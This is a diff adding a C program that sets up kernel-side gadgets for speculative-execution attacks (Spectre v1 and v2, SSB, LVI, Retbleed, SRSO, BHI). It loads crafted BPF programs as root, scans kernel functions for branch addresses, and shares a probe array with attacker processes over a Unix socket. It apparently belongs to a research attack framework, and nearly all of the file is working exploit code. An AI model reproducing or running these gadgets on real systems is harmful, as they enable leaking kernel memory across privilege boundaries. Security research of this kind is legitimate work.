@@ -1,0 +1,331 @@
+/*
+ * Set-up program: code in the kernel that an attack needs. Each is a BPF program as root may load
+ * it; the kernel does not harden programs of root against speculation.
+ *
+ *   gadgets spectre-v1 | ssb | lvi | spectre-v2 | retbleed | srso | bhi
+ *
+ * Prints options for the attack, among them the socket that gives clients a mapping of the array
+ * that the gadgets count in (--gadget), where the kernel has that array (--table, --known) and, for
+ * branch target injection, addresses of branches (--branch) and of code that discloses what a
+ * register points to (--disclosure).
+ */
+#include "attack.h"
+
+#include <sys/mman.h>
+
+#include "bpf.h"
+#include "gadget.h"
+#include "setup.h"
+
+#define LENGTH(array) ((int)(sizeof(array) / sizeof((array)[0])))
+
+static const char descriptor_socket[] = "/tmp/gadget", request_socket[] = "/tmp/gadget-requests";
+
+enum {
+	USER_RDI = 0x70,	/* in struct pt_regs */
+	TASK_STACK = 0x20,	/* in struct task_struct */
+};
+
+static int shared;
+
+/* Counts the byte in R0 by its halves; R1 and R2 are lost. */
+#define COUNT_BYTE                                        \
+	MOVE(BPF_REG_1, BPF_REG_0),                       \
+	AND_IMM(BPF_REG_1, 15),                           \
+	SHIFT_LEFT(BPF_REG_1, SLOT_BITS),                 \
+	MAP_ADDRESS(BPF_REG_2, shared, SHARED_PROBE),     \
+	ADD(BPF_REG_2, BPF_REG_1),                        \
+	LOAD(BPF_B, BPF_REG_2, BPF_REG_2, 0),             \
+	AND_IMM(BPF_REG_0, 0xf0),                         \
+	SHIFT_LEFT(BPF_REG_0, SLOT_BITS - 4),             \
+	MAP_ADDRESS(BPF_REG_2, shared, SHARED_PROBE + UPPER_HALF), \
+	ADD(BPF_REG_2, BPF_REG_0),                        \
+	LOAD(BPF_B, BPF_REG_2, BPF_REG_2, 0)
+enum { COUNT_BYTE_LENGTH = 13 };
+
+/* Copies the request of a packet to the stack, its value at -16, harmless at -8; or ends. */
+#define READ_REQUEST                                      \
+	MOVE_IMM(BPF_REG_2, 0),                           \
+	MOVE(BPF_REG_3, BPF_REG_10),                      \
+	ADD_IMM(BPF_REG_3, -16),                          \
+	MOVE_IMM(BPF_REG_4, 16),                          \
+	CALL(BPF_FUNC_skb_load_bytes),                    \
+	JUMP_EQUAL_IMM(BPF_REG_0, 0, 2),                  \
+	MOVE_IMM(BPF_REG_0, 0),                           \
+	EXIT()
+
+/*
+ * Reads the table at the index in R7, if the index has no bits that the limit lacks. The limit is
+ * read from the shared array.
+ */
+#define READ_TABLE                                        \
+	MAP_ADDRESS(BPF_REG_1, shared, SHARED_LIMIT),     \
+	LOAD(BPF_B, BPF_REG_2, BPF_REG_1, 0),             \
+	AND(BPF_REG_2, BPF_REG_7),                        \
+	JUMP_NOT_EQUAL(BPF_REG_2, BPF_REG_7, 4 + COUNT_BYTE_LENGTH), \
+	MAP_ADDRESS(BPF_REG_3, shared, SHARED_TABLE),     \
+	ADD(BPF_REG_3, BPF_REG_7),                        \
+	LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),             \
+	COUNT_BYTE
+enum { READ_TABLE_LENGTH = 9 + COUNT_BYTE_LENGTH };
+
+/* Lets packets to a socket run a program, which ends by dropping them. */
+static void attach_filter(int program)
+{
+	int socket = listen_at(request_socket, SOCK_DGRAM);
+
+	checked(setsockopt(socket, SOL_SOCKET, SO_ATTACH_BPF, &program, sizeof(program)), "SO_ATTACH_BPF");
+	printf(" --requests %s", request_socket);
+}
+
+static void load_spectre_v1(void)
+{
+	const struct bpf_insn program[] = {
+		READ_REQUEST,
+		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
+		READ_TABLE,
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_filter(load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)));
+}
+
+/*
+ * A slot of the stack holds the request's value first, then a pointer to the table; where the
+ * second store goes is known late, as its address waits for the shared array.
+ */
+static void load_ssb(void)
+{
+	const struct bpf_insn program[] = {
+		READ_REQUEST,
+		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
+		LOAD(BPF_DW, BPF_REG_5, BPF_REG_10, -8),
+		MAP_ADDRESS(BPF_REG_8, shared, SHARED_TABLE),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_5, 0, 9),
+		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -24),
+		MAP_ADDRESS(BPF_REG_1, shared, SHARED_LIMIT),
+		LOAD(BPF_DW, BPF_REG_4, BPF_REG_1, 0),
+		AND_IMM(BPF_REG_4, 0),
+		MOVE(BPF_REG_2, BPF_REG_10),
+		ADD_IMM(BPF_REG_2, -24),
+		ADD(BPF_REG_2, BPF_REG_4),
+		JUMP(2),
+		/* harmless */
+		MOVE(BPF_REG_2, BPF_REG_10),
+		ADD_IMM(BPF_REG_2, -24),
+		STORE(BPF_DW, BPF_REG_2, BPF_REG_8, 0),
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -24),
+		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
+		COUNT_BYTE,
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_filter(load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)));
+}
+
+/* At the begin of getsid, reads an index where the caller's first argument points, and the table. */
+static void load_lvi(void)
+{
+	const struct bpf_insn program[] = {
+		LOAD(BPF_DW, BPF_REG_2, BPF_REG_1, 8),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 13 + READ_TABLE_LENGTH),
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 0),
+		ADD_IMM(BPF_REG_3, USER_RDI),
+		MOVE(BPF_REG_1, BPF_REG_10),
+		ADD_IMM(BPF_REG_1, -8),
+		MOVE_IMM(BPF_REG_2, 8),
+		CALL(BPF_FUNC_probe_read_kernel),
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -8),
+		MOVE(BPF_REG_1, BPF_REG_10),
+		ADD_IMM(BPF_REG_1, -16),
+		MOVE_IMM(BPF_REG_2, 8),
+		CALL(BPF_FUNC_probe_read_user),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_0, 0, 1 + READ_TABLE_LENGTH),
+		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
+		READ_TABLE,
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "sys_enter");
+}
+
+/*
+ * Code that counts the byte where a register points. Programs make it up to read the table; it is
+ * not called, the branch that is sent there has the register point elsewhere.
+ */
+static void load_disclosures(void)
+{
+	/* Registers that hold what the caller of a system call gave: their number in BPF and in x86. */
+	static const struct {
+		int bpf, x86;
+	} registers[] = {
+		{ BPF_REG_7, 13 }, { BPF_REG_9, 15 }, { BPF_REG_8, 14 }, { BPF_REG_6, 3 }, { BPF_REG_3, 2 },
+	};
+
+	for (int i = 0; i < LENGTH(registers); i++) {
+		const struct bpf_insn program[] = {
+			MAP_ADDRESS(registers[i].bpf, shared, SHARED_TABLE),
+			LOAD(BPF_B, BPF_REG_0, registers[i].bpf, 0),
+			COUNT_BYTE,
+			MOVE_IMM(BPF_REG_0, 0),
+			EXIT(),
+		};
+		/* movzx rax, byte [register + 0] */
+		const uint8_t load[] = {
+			0x48 | registers[i].x86 >> 3, 0x0f, 0xb6, 0x40 | (registers[i].x86 & 7), 0,
+		};
+		static uint8_t code[1024];
+		uint32_t bytes;
+		uint64_t address = program_code(
+			load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)), code, sizeof(code), &bytes);
+		const uint8_t *found = memmem(code, bytes, load, sizeof(load));
+
+		if (!found)
+			errx(1, "expected the compiled program to load by register %d", registers[i].x86);
+		printf(" --disclosure %#lx", address + (found - code));
+	}
+}
+
+/* Ends of instructions in functions of the kernel: indirect calls and jumps, or returns. */
+static void print_branches(int count, const char *const *functions, int returns)
+{
+	static const char *const thunks[] = { "__x86_indirect_thunk_array", "__x86_return_thunk" };
+	static uint8_t code[1 << 14];
+	uint64_t starts[8], ends[8], thunk[2], thunk_end[2];
+
+	kernel_symbols(count, functions, starts, ends);
+	kernel_symbols(2, thunks, thunk, thunk_end);
+	for (int i = 0; i < count; i++) {
+		int size = ends[i] - starts[i] < sizeof(code) ? ends[i] - starts[i] : sizeof(code);
+
+		read_kernel(starts[i], code, size);
+		for (int at = 0; at + 5 <= size; at++) {
+			const uint8_t *bytes = code + at;
+			int32_t distance;
+			uint64_t target;
+			int length = 0;
+
+			memcpy(&distance, bytes + 1, sizeof(distance));
+			target = starts[i] + at + 5 + distance;
+			if (returns) {
+				/* Five bytes that jump to the thunk, or a return and padding in their place. */
+				if (!memcmp(bytes, "\xc3\xcc\xcc\xcc\xcc", 5))
+					length = 1;
+				else if (bytes[0] == 0xe9 && target == thunk[1])
+					length = 5;
+			} else if (bytes[0] == 0xff && ((bytes[1] & 0xf8) == 0xd0 || (bytes[1] & 0xf8) == 0xe0)) {
+				/* Calls and jumps by a register. */
+				length = 2;
+			} else if ((bytes[0] == 0xe8 || bytes[0] == 0xe9) && target - thunk[0] < thunk_end[0] - thunk[0]) {
+				length = 5;
+			}
+			if (length)
+				printf(" --branch %#lx", starts[i] + at + length - 1);
+		}
+	}
+}
+
+/*
+ * Two programs that the same call in bpf_trace_run2 reaches. At task_rename the first argument is a
+ * task, and the program counts the lowest byte of its stack; at sys_enter it is the caller's
+ * registers, and the program does nothing.
+ */
+static void load_bhi(void)
+{
+	const struct bpf_insn stack_counter[] = {
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 0),
+		ADD_IMM(BPF_REG_3, TASK_STACK),
+		MOVE(BPF_REG_1, BPF_REG_10),
+		ADD_IMM(BPF_REG_1, -8),
+		MOVE_IMM(BPF_REG_2, 8),
+		CALL(BPF_FUNC_probe_read_kernel),
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -8),
+		MOVE(BPF_REG_1, BPF_REG_10),
+		ADD_IMM(BPF_REG_1, -16),
+		MOVE_IMM(BPF_REG_2, 1),
+		CALL(BPF_FUNC_probe_read_kernel),
+		LOAD(BPF_B, BPF_REG_0, BPF_REG_10, -16),
+		COUNT_BYTE,
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+	const struct bpf_insn nothing[] = {
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_tracepoint(
+		load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, stack_counter, LENGTH(stack_counter)), "task_rename");
+	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, nothing, LENGTH(nothing)), "sys_enter");
+}
+
+/* Passes the array's descriptor, read-only, to everybody who connects. */
+static void serve(int socket, int fd)
+{
+	for (;;) {
+		int client = accept(socket, NULL, NULL);
+		char byte = 0, control[CMSG_SPACE(sizeof(int))] = { 0 };
+		struct iovec data = { .iov_base = &byte, .iov_len = 1 };
+		struct msghdr message = {
+			.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control),
+		};
+		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
+
+		header->cmsg_level = SOL_SOCKET;
+		header->cmsg_type = SCM_RIGHTS;
+		header->cmsg_len = CMSG_LEN(sizeof(int));
+		memcpy(CMSG_DATA(header), &fd, sizeof(fd));
+		sendmsg(client, &message, 0);
+		close(client);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	static const char *const ioctl_functions[] = { "__x64_sys_ioctl" };
+	static const char *const trace_functions[] = { "bpf_trace_run2" };
+	static const char *const receive_functions[] = { "sock_recvmsg", "inet_recvmsg", "tcp_recvmsg" };
+	static const char *const operations[] = { "pipefifo_fops" };
+	const char *attack = argc == 2 ? argv[1] : "";
+	uint64_t address, end;
+	uint8_t *value;
+	int socket;
+
+	shared = create_map(SHARED_BYTES);
+	address = map_address(shared);
+	value = mmap(NULL, SHARED_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, shared, 0);
+	if (value == MAP_FAILED)
+		err(1, "mmap");
+	memset(value, 0, SHARED_BYTES);
+	value[SHARED_LIMIT] = HIGHEST_INDEX;
+	value[SHARED_KNOWN] = KNOWN_BYTE;
+	munmap(value, SHARED_BYTES);
+
+	socket = listen_at(descriptor_socket, SOCK_STREAM);
+	printf("--gadget %s --table %#lx --known %#lx", descriptor_socket, address + SHARED_TABLE, address + SHARED_KNOWN);
+	if (!strcmp(attack, "spectre-v1")) {
+		load_spectre_v1();
+	} else if (!strcmp(attack, "ssb")) {
+		load_ssb();
+	} else if (!strcmp(attack, "lvi")) {
+		load_lvi();
+	} else if (!strcmp(attack, "spectre-v2")) {
+		load_disclosures();
+		print_branches(1, ioctl_functions, 0);
+		kernel_symbols(1, operations, &address, &end);
+		printf(" --slow %#lx", address);
+	} else if (!strcmp(attack, "retbleed") || !strcmp(attack, "srso")) {
+		load_disclosures();
+		print_branches(LENGTH(receive_functions), receive_functions, 1);
+	} else if (!strcmp(attack, "bhi")) {
+		load_bhi();
+		print_branches(1, trace_functions, 0);
+	} else {
+		errx(2, "usage: gadgets spectre-v1 | ssb | lvi | spectre-v2 | retbleed | srso | bhi");
+	}
+	to_background();
+	serve(socket, shared);
+}
